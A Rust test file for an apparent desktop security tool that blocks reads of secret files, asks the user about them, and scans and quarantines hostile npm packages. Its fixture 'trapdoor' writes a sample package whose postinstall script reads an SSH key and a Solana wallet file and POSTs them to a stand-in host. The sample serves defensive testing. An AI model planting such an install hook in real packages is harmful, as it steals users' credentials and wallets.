//! What a person sees and clicks in the windows.

use crate::app::{Places, on_a_desktop};
use anyhow::Result;
use doorward_tests::desktop::{Driver, Page, wait_for};
use doorward_tests::{Daemon, Sandbox};
use std::process::{Child, Command, Stdio};

#[test]
fn a_denied_read_is_a_row_that_names_package_and_secret() {
    on_a_desktop("window::a_denied_read_is_a_row_that_names_package_and_secret", async |sandbox, desktop| {
        sandbox.write(".ssh/id_ed25519", "a made-up key\n");
        let daemon = Daemon::start(sandbox, "mode = \"block\"");
        // Nobody is there to scan yet, so the script starts, and each of its reads is denied.
        let (install, stolen) = crate::background::install_thief(sandbox);
        assert_eq!(install.code, 0, "{install}");
        assert!(stolen.exists(), "the script ran to its end");
        let app = Places::with(sandbox, &daemon).driven(desktop).await?;
        app.says("headline", "to look at").await?;
        app.click("nav-events").await?;
        let row = app.says("event-row[data-action=denied]", "evil-dep").await?;
        app.click("event-row[data-action=denied]").await?;
        let detail = app.says("event-detail", "1.2.3").await?;
        assert!(detail.contains("postinstall"), "{row}\n{detail}");
        app.says("process-tree", "node").await?;
        Ok(())
    });
}

#[test]
fn the_prompt_denies_and_allows_once() {
    on_a_desktop("window::the_prompt_denies_and_allows_once", async |sandbox, desktop| {
        let secret = sandbox.write(".ssh/id_ed25519", "a made-up key\n");
        let daemon = Daemon::start(sandbox, "mode = \"ask\"");
        let app = Places::with(sandbox, &daemon).driven(desktop).await?;
        app.says("headline", "Guarding").await?;

        let read = || start(sandbox.command("/usr/bin/head").arg(&secret));
        let (code, _) = answered(&app, read()?, "prompt-deny").await?;
        assert_ne!(code, 0, "the read was denied");
        app.turn_to(Page::Main).await?;
        app.click("nav-events").await?;
        app.says("event-row[data-action=denied]", "SSH").await?;

        let (code, text) = answered(&app, read()?, "prompt-allow-once").await?;
        assert_eq!((code, text.as_str()), (0, "a made-up key\n"));
        // Once is once: the next read is a question again.
        let (code, _) = answered(&app, read()?, "prompt-deny").await?;
        assert_ne!(code, 0);
        // A question may come while the prompt of the one before it is being closed.
        for _ in 0..10 {
            let (code, _) = answered(&app, read()?, "prompt-deny").await?;
            assert_ne!(code, 0);
        }
        app.turn_to(Page::Main).await?;
        wait_for("the prompt to close", async || (app.windows().await.ok()? == 1).then_some(())).await?;
        Ok(())
    });
}

#[test]
fn a_project_is_scanned_from_click_to_verdict_and_a_package_locked_away_and_put_back() {
    on_a_desktop(
        "window::a_project_is_scanned_from_click_to_verdict_and_a_package_locked_away_and_put_back",
        async |sandbox, desktop| {
            let package = trapdoor(sandbox);
            let daemon = Daemon::start(sandbox, "mode = \"ask\"");
            let app = Places::with(sandbox, &daemon).driven(desktop).await?;
            app.click("nav-projects").await?;
            app.write("add-project-path", &sandbox.home().join("shop").display().to_string()).await?;
            app.click("add-project").await?;
            app.click("project-row").await?;
            app.says("project-row[data-worst=malicious]", "shop").await?;
            app.click("scan-button").await?;
            app.says("package-row", "harmless-steal").await?;
            app.click("package-row").await?;
            let detail = app.says("package-detail", "hostile").await?;
            let finding = app.says("finding", "steal.js").await?;
            assert!(detail.contains("1.2.3") && finding.contains("id_ed25519"), "{detail}\n{finding}");

            let index = package.join("steal.js");
            let content = std::fs::read(&index)?;
            app.click("lock-away").await?;
            wait_for("the package to be gone", async || (!package.exists()).then_some(())).await?;
            app.click("nav-quarantine").await?;
            app.says("sealed-row", "harmless-steal").await?;
            app.click("sealed-row").await?;
            app.says("sealed-entry", "steal.js").await?;
            app.click("restore").await?;
            app.click("confirm").await?;
            wait_for("the package to be back", async || index.exists().then_some(())).await?;
            assert_eq!(std::fs::read(&index)?, content);
            app.says("sealed-detail[data-state=restored]", "").await?;
            Ok(())
        },
    );
}

/// A project with one installed package that reads a key while it is installed and sends it away;
/// inert, because nothing ever runs it and its address exists nowhere.
fn trapdoor(sandbox: &Sandbox) -> std::path::PathBuf {
    sandbox.write(
        "shop/package.json",
        "{\"name\":\"shop\",\"version\":\"0.1.0\",\"dependencies\":{\"harmless-steal\":\"1.2.3\"}}\n",
    );
    sandbox.write(
        "shop/node_modules/harmless-steal/package.json",
        "{\"name\":\"harmless-steal\",\"version\":\"1.2.3\",\"scripts\":{\"postinstall\":\"node steal.js\"}}\n",
    );
    sandbox.write(
        "shop/node_modules/harmless-steal/steal.js",
        "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\n\
         const key = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519');\n\
         const wallet = fs.readFileSync(os.homedir() + '/.config/solana/id.json');\n\
         const request = https.request({ host: 'collector.invalid', method: 'POST' });\n\
         request.write(key);\nrequest.write(wallet);\nrequest.end();\n",
    );
    sandbox.home().join("shop/node_modules/harmless-steal")
}

fn start(command: &mut Command) -> Result<Child> {
    Ok(command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn()?)
}

/// Answers the question that a held reader waits for; returns the reader's exit code and output.
async fn answered(app: &Driver, reader: Child, button: &str) -> Result<(i32, String)> {
    // The window turned to may be the one of the question before, which is about to close.
    wait_for("the prompt to ask", async || {
        app.turn_to(Page::Prompt).await.ok()?;
        app.says_now("prompt-question", "SSH").await.then_some(())
    })
    .await?;
    app.click(button).await?;
    let output = tokio::task::spawn_blocking(move || reader.wait_with_output()).await??;
    Ok((output.status.code().unwrap_or(-1), String::from_utf8_lossy(&output.stdout).into_owned()))
}
